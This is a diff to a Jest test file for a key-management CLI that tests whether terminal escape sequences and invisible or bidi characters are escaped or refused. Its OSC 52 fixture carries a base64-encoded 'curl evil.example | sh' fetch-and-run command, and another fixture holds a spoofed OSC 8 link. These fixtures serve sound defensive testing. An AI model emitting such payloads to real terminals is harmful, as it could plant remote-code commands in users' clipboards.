@@ -5,7 +5,6 @@
  */
 import {afterAll, beforeAll, describe, expect, it} from '@jest/globals'
 import {promises as fs} from 'node:fs'
-import os from 'node:os'
 import path from 'node:path'
 
 import BudgetCheck from '../../src/commands/budget/check.js'
@@ -14,7 +13,7 @@ import KeysList from '../../src/commands/keys/list.js'
 import {runCommand as run} from '../helpers/run-command.js'
 import {withoutNodeWarnings} from './keys/helpers.js'
 import {json, startHostileServer, type HostileServer} from '../helpers/hostile-server.js'
-import {startTestServer, type TestServer} from '../server/index.js'
+import {envFor, useTestServers} from '../helpers/test-server.js'
 
 const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'
 const OSC8 = '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\'
@@ -24,10 +23,9 @@ const HOSTILE = `${OSC52}${OSC8}${CLEAR}boom\u009b31m\u200bopen\u200fclaw\u2028x
  
 const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/
 
+const fx = useTestServers({srv: {flavor: 'new'}})
 let proxy: HostileServer
-let srv: TestServer
 let failingHook: HostileServer
-let tmp: string
 
 beforeAll(async () => {
   proxy = await startHostileServer((req, res) => {
@@ -36,23 +34,14 @@ beforeAll(async () => {
     return json(res, req.method === 'POST' ? 400 : 500, {error: {message: HOSTILE, type: 'bad_request_error', param: 'None', code: '400'}})
   })
   failingHook = await startHostileServer((_req, res) => json(res, 400, {error: HOSTILE}))
-  srv = await startTestServer({flavor: 'new'})
-  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'keyward-tty-'))
 })
 afterAll(async () => {
-  await Promise.all([proxy.close(), failingHook.close(), srv.close()])
-  await fs.rm(tmp, {recursive: true, force: true})
+  await Promise.all([proxy.close(), failingHook.close()])
 })
 
 const runCommand = async (...a: Parameters<typeof run>) => withoutNodeWarnings(await run(...a))
-const hostileEnv = () => ({LITELLM_PROXY_URL: proxy.url, LITELLM_MASTER_KEY: 'sk-tty-test-0000', KEYWARD_CONFIG_DIR: tmp, KEYWARD_DATA_DIR: tmp})
-const env = (extra: Record<string, string> = {}) => ({
-  LITELLM_PROXY_URL: srv.url,
-  LITELLM_MASTER_KEY: srv.masterKey,
-  KEYWARD_CONFIG_DIR: tmp,
-  KEYWARD_DATA_DIR: tmp,
-  ...extra,
-})
+const hostileEnv = () => envFor({url: proxy.url, masterKey: 'sk-tty-test-0000'}, fx.dir)
+const env = (extra: Record<string, string> = {}) => fx.env(fx.srv, extra)
 
 describe('proxy error messages on stderr', () => {
   it('keys list: OSC 52, OSC 8 and ESC[2J are shown escaped, on one line', async () => {
@@ -78,7 +67,7 @@ describe('proxy error messages on stderr', () => {
 
 describe('budget check', () => {
   it('a hostile alias in a delivery warning is shown escaped', async () => {
-    srv.addKey({key_alias: `evil${CLEAR}${OSC52}`, max_budget: 10, budget_duration: '30d', spend: 9.5})
+    fx.srv.addKey({key_alias: `evil${CLEAR}${OSC52}`, max_budget: 10, budget_duration: '30d', spend: 9.5})
     const r = await runCommand(BudgetCheck, ['--notify', `${failingHook.url}/hook`], env())
     expect(r.stderr).toContain('could not deliver')
     expect(r.stderr).not.toMatch(RAW)
@@ -86,7 +75,7 @@ describe('budget check', () => {
   })
 
   it("a corrupt state file's bytes are shown escaped", async () => {
-    const state = path.join(tmp, 'corrupt-state.json')
+    const state = path.join(fx.dir, 'corrupt-state.json')
     await fs.writeFile(state, `${OSC52}${CLEAR}not json`)
     const r = await runCommand(BudgetCheck, ['--state', state, '--notify', `${failingHook.url}/hook`], env())
     expect(r.stderr).toContain('is corrupted')
@@ -96,8 +85,8 @@ describe('budget check', () => {
 
 describe('zero-width and direction marks', () => {
   it('an alias with them is shown escaped in the keys list table (look-alikes stand out)', async () => {
-    srv.addKey({key_alias: 'open\u200bclaw', max_budget: 1, budget_duration: '30d'})
-    srv.addKey({key_alias: 'gpt\u202eevil', max_budget: 1, budget_duration: '30d'})
+    fx.srv.addKey({key_alias: 'open\u200bclaw', max_budget: 1, budget_duration: '30d'})
+    fx.srv.addKey({key_alias: 'gpt\u202eevil', max_budget: 1, budget_duration: '30d'})
     const r = await runCommand(KeysList, [], env())
     expect(r.stderr).toBe('')
     expect(r.stdout).toContain('open\\u200bclaw')
@@ -107,11 +96,10 @@ describe('zero-width and direction marks', () => {
 
   // (U+2028/U+2029 are refused too, as control characters: test/domain/inputs.test.ts)
   it.each([['open\u200bclaw'], ['a\u200fb'], ['\ufeffbom'], ['rtl\u202eoverride'], ['iso\u2066late']])('keys create refuses the alias %j: exit 2, nothing sent', async (alias) => {
-    srv.requests.length = 0
     const r = await runCommand(KeysCreate, ['--alias', alias, '--budget', '1'], env())
     expect(r.exitCode).toBe(2)
     expect(r.stderr.split('\n')[0]).toMatch(/^Error: the alias contains invisible or direction-changing characters \(\\u[0-9a-f]{4}\)/)
     expect(r.stderr).not.toMatch(RAW)
-    expect(srv.requests).toEqual([])
+    expect(fx.srv.requests).toEqual([])
   })
 })
